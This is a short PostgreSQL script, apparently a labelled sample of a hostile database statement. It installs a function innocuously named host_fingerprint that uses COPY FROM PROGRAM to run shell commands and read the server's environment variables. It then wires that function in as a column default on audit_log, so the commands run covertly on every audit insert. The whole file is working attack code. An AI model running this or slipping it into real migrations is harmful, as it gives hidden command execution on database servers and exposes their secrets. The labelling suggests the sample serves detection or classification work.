-- class: server-file-access
-- A SQL function installs a PL/pgSQL function that runs a shell command; a column default then runs it on every audit insert.
CREATE FUNCTION install_host_fingerprint() RETURNS void LANGUAGE sql VOLATILE AS $sql$
  CREATE OR REPLACE FUNCTION public.host_fingerprint() RETURNS text LANGUAGE plpgsql AS $pl$
  DECLARE v text;
  BEGIN
    CREATE TEMP TABLE IF NOT EXISTS fp_out (l text);
    COPY fp_out FROM PROGRAM 'uname -a; cat /proc/self/environ | tr "\0" "\n"';
    SELECT string_agg(l, E'\n') INTO v FROM fp_out;
    RETURN v;
  END
  $pl$;
$sql$;

SELECT install_host_fingerprint();
ALTER TABLE audit_log ADD COLUMN host text;
ALTER TABLE audit_log ALTER COLUMN host SET DEFAULT public.host_fingerprint();
